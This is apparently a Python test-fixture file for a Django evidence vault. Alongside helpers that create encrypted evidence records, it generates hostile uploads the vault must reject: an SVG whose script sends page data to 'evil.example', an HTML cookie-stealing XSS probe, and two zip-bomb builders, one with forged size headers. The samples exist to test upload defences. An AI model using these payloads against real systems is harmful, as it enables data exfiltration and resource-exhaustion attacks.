"""Evidence for tests, and the hostile files the vault must refuse.

`evidence_in` writes straight to the database (set-up, no audit event); the behaviour under
test always goes through `services.evidence` or the views.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

from vigil.core import crypto
from vigil.core.models import User
from vigil.people.models import Case, Evidence, Examination, Interview
from vigil.people.tests.factories import png_bytes
from vigil.people.vault import accept_evidence

MB = 1024 * 1024


def evidence_in(
    holder: Interview | Case | Examination,
    *,
    data: bytes | None = None,
    uploaded_by: User | None = None,
    description: str = "",
) -> Evidence:
    """A file kept by `holder`, encrypted as the service keeps it."""
    accepted = accept_evidence(data if data is not None else png_bytes())
    field = {Interview: "interview", Case: "case", Examination: "examination"}[type(holder)]
    count = Evidence.objects.filter(institution_id=holder.institution_id).count()
    evidence = Evidence.objects.create(
        institution_id=holder.institution_id,
        **{field: holder},
        kind=accepted.kind,
        content_type=accepted.content_type,
        stored_name=f"E-{count + 9001:05d}.{accepted.extension}",
        original_name="upload",
        description=description,
        sha256_original=accepted.sha256_original,
        sha256_stored=accepted.sha256_stored,
        metadata_stripped=accepted.metadata_stripped,
        size=len(accepted.content),
        content=b"",
        uploaded_by=uploaded_by or holder.created_by,
    )
    evidence.content = crypto.encrypt_bytes(accepted.content, context=evidence.encryption_context)
    evidence.key_id = crypto.key_ring().active_id
    evidence.save(update_fields=["content", "key_id"])
    return evidence


def upload(
    name: str, data: bytes, content_type: str = "application/octet-stream"
) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- files the vault must refuse ----------------------------------------------------------


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/people/').then(r => r.text()).then(t => navigator.sendBeacon("
        b"'https://evil.example/', t))</script><rect width='10' height='10'/></svg>"
    )


def html_page() -> bytes:
    """An HTML page, to be sent under a photograph's name."""
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def pdf_bytes(text: str = "Medical certificate") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n"
        + f"({text}) Tj\n".encode()
        + b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )


def zip_bomb(expanded_bytes: int = 200 * MB) -> bytes:
    """A DOCX-looking zip whose one entry is `expanded_bytes` of zeros: tiny, and huge inside."""
    buffer = io.BytesIO()
    chunk = bytes(MB)
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            for _ in range(expanded_bytes // MB):
                entry.write(chunk)
    return buffer.getvalue()


def lying_zip_bomb(expanded_bytes: int = 200 * MB) -> bytes:
    """A zip whose headers claim a few hundred bytes for an entry that inflates to far more."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(MB)
    deflated = b"".join(compressor.compress(chunk) for _ in range(expanded_bytes // MB))
    deflated += compressor.flush()
    name = b"word/document.xml"
    claimed = 300
    crc = zlib.crc32(bytes(claimed))  # right for what the headers claim, so only a count finds it
    local = (
        struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,  # local file header
            20, 0, 8, 0, 0,  # version, flags, deflate, time, date
            crc, len(deflated), claimed, len(name), 0,
        )
        + name
    )  # fmt: skip
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,  # central directory header
            20, 20, 0, 8, 0, 0,
            crc, len(deflated), claimed, len(name), 0, 0, 0, 0, 0, 0,
        )
        + name
    )  # fmt: skip
    types = _stored_entry(b"[Content_Types].xml", b"<Types/>", offset=len(local) + len(deflated))
    end = struct.pack(
        "<IHHHHIIH",
        0x06054B50,
        0, 0, 2, 2,
        len(central) + len(types[1]),
        len(local) + len(deflated) + len(types[0]),
        0,
    )  # fmt: skip
    return local + deflated + types[0] + central + types[1] + end


def _stored_entry(name: bytes, data: bytes, *, offset: int) -> tuple[bytes, bytes]:
    crc = zlib.crc32(data)
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20, 20, 0, 0, 0, 0,
        crc, len(data), len(data), len(name), 0, 0, 0, 0, 0, offset,
    )  # fmt: skip
    return local + name + data, central + name
